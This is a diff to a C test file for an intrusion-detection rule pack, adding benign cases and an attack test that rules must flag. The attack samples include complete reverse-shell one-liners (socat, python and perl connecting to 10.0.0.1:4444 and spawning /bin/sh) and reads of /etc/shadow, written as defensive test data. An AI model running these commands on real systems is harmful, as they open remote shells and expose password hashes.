@@ -33,8 +33,11 @@ struct ev {
 	const char *daddr;
 	const char *dport;
 	bool c;
-	bool sock;
+	bool sock;                    /* stdin and stdout a TCP connection */
 	bool drift;
+	const char *in;               /* proc.stdin_type and stdout_type; default pipe (tcp if sock) */
+	const char *parent;           /* parent.name */
+	const char *anc;              /* proc.ancestors */
 };
 
 static void view_of(const struct ev *e, struct moat_rule_view *v)
@@ -48,6 +51,8 @@ static void view_of(const struct ev *e, struct moat_rule_view *v)
 	v->f[MOAT_F_PROC_CMDLINE] = e->cmd ? e->cmd : v->f[MOAT_F_PROC_NAME];
 	v->f[MOAT_F_USER_UID] = e->uid ? e->uid : "0";
 	v->f[MOAT_F_USER_EUID] = e->euid ? e->euid : v->f[MOAT_F_USER_UID];
+	v->f[MOAT_F_PARENT_NAME] = e->parent;
+	v->f[MOAT_F_PROC_ANCESTORS] = e->anc ? e->anc : "/usr/bin/bash";
 	if (e->c) {
 		v->f[MOAT_F_CONTAINER_ID] = CID;
 		v->f[MOAT_F_CONTAINER_NAME] = "web";
@@ -56,6 +61,11 @@ static void view_of(const struct ev *e, struct moat_rule_view *v)
 	if (!strcmp(e->kind, "exec")) {
 		v->f[MOAT_F_PROC_STDIN_SOCK] = e->sock ? "true" : "false";
 		v->f[MOAT_F_PROC_STDOUT_SOCK] = e->sock ? "true" : "false";
+		v->f[MOAT_F_PROC_STDIN_TYPE] = e->in ? e->in : e->sock ? "tcp" : "pipe";
+		v->f[MOAT_F_PROC_STDOUT_TYPE] = v->f[MOAT_F_PROC_STDIN_TYPE];
+		v->f[MOAT_F_PROC_STDERR_TYPE] = "pipe";
+		if (e->in && strcmp(e->in, "pipe") && strcmp(e->in, "chr") && strcmp(e->in, "file"))
+			v->f[MOAT_F_PROC_STDIN_SOCK] = v->f[MOAT_F_PROC_STDOUT_SOCK] = "true";
 		v->f[MOAT_F_PROC_DRIFT] = e->drift ? "true" : "false";
 		v->f[MOAT_F_PROC_ARGS] = e->args ? e->args : "";
 	} else if (!strcmp(e->kind, "connect")) {
@@ -296,6 +306,22 @@ static void test_pack__benign(void)
 		{ "open", "dockerd", .fd = "/sys/fs/cgroup/system.slice/cgroup.procs", W },
 		{ "ptrace", "gdb", .arg0 = "16" },
 		{ "exec", "apt-get", .cmd = "apt-get update" },
+		/* shells that node (libuv), node-gyp and ninja start on socketpairs */
+		{ "exec", "sh", .cmd = "/bin/sh -c make", .in = "unix", .parent = "node" },
+		{ "exec", "python3", .cmd = "python3 job.py", .in = "unix", .parent = "node", C },
+		{ "exec", "bash", .cmd = "bash", .in = "listen", .parent = "systemd" },
+		{ "exec", "python3", .cmd = "python3 -c import socket; print(1)" },
+		/* the host's package manager and configuration tools reading the account files */
+		{ "open", "perl", .fd = "/etc/shadow",
+		  .anc = "/usr/bin/dash /usr/bin/dpkg /usr/bin/apt-get /usr/bin/bash" },
+		{ "open", "frontend", .exe = "/usr/bin/perl", .fd = "/etc/shadow",
+		  .cmd = "/usr/bin/perl -w /usr/share/debconf/frontend /var/lib/dpkg/info/x.config" },
+		{ "open", "cp", .fd = "/etc/shadow",
+		  .anc = "/usr/bin/dash /usr/bin/run-parts /usr/sbin/cron" },
+		{ "open", "useradd", .exe = "/usr/sbin/useradd", .fd = "/etc/passwd", W,
+		  .anc = "/usr/bin/dash /usr/bin/dpkg /usr/bin/apt-get" },
+		{ "open", "dpkg", .exe = "/usr/bin/dpkg", .fd = "/etc/cron.d/x", W,
+		  .anc = "/usr/bin/apt-get /usr/bin/bash" },
 	};
 	struct moat_ruleset *rs = pack();
 	struct moat_rule_view v;
@@ -311,6 +337,52 @@ static void test_pack__benign(void)
 				printf("# benign event %zu fired %s\n", k, r->id);
 			CHECK(!moat_rule_matches(r, &v));
 		}
+	}
+	moat_rules_close(rs);
+}
+
+/* Reverse shells the socket type alone does not show, and the host
+ * exceptions not reaching into containers. */
+static void test_pack__attacks(void)
+{
+	static const struct {
+		const char *rule;
+		struct ev e;
+	} hits[] = {
+		/* socat TCP:h:p EXEC:bash, ncat -e: the shell sits on a socketpair */
+		{ "reverse-shell", { "exec", "bash", .in = "unix", .parent = "socat" } },
+		{ "reverse-shell", { "exec", "sh", .in = "pipe", .parent = "ncat", C } },
+		{ "reverse-shell", { "exec", "sh", .in = "udp" } },
+		{ "reverse-shell-cmdline",
+		  { "exec", "socat", .cmd = "socat TCP:10.0.0.1:4444 EXEC:bash" } },
+		{ "reverse-shell-cmdline", { "exec", "python3",
+		  .cmd = "python3 -c import socket,os,pty;s=socket.socket();"
+		  "s.connect((\"10.0.0.1\",4444));os.dup2(s.fileno(),0);"
+		  "pty.spawn(\"/bin/sh\")" } },
+		{ "reverse-shell-cmdline", { "exec", "perl", .cmd = "perl -e use Socket;"
+		  "socket(S,PF_INET,SOCK_STREAM,6);"
+		  "connect(S,sockaddr_in(4444,inet_aton(\"10.0.0.1\")));"
+		  "open(STDIN,\">&S\");exec(\"/bin/sh -i\");" } },
+		/* in a container a package manager's child reading shadow still counts */
+		{ "read-shadow", { "open", "perl", .fd = "/etc/shadow", C,
+		  .anc = "/usr/bin/dash /usr/bin/dpkg /usr/bin/apt-get" } },
+		{ "read-shadow", { "open", "cat", .fd = "/etc/shadow", .anc = "/usr/bin/bash" } },
+	};
+	struct moat_ruleset *rs = pack();
+	struct moat_rule_view v;
+
+	if (!rs)
+		return;
+	for (size_t k = 0; k < sizeof(hits) / sizeof(hits[0]); k++) {
+		const struct moat_rule *r = find(rs, hits[k].rule);
+
+		CHECK(r != NULL);
+		if (!r)
+			continue;
+		view_of(&hits[k].e, &v);
+		if (!moat_rule_matches(r, &v))
+			printf("# attack %zu missed by %s\n", k, r->id);
+		CHECK(moat_rule_matches(r, &v));
 	}
 	moat_rules_close(rs);
 }
@@ -381,6 +453,7 @@ int main(void)
 	MOAT_RUN(test_pack__every_rule);
 	MOAT_RUN(test_pack__shape);
 	MOAT_RUN(test_pack__benign);
+	MOAT_RUN(test_pack__attacks);
 	MOAT_RUN(test_pack__prefixes);
 	return moat_test_done();
 }
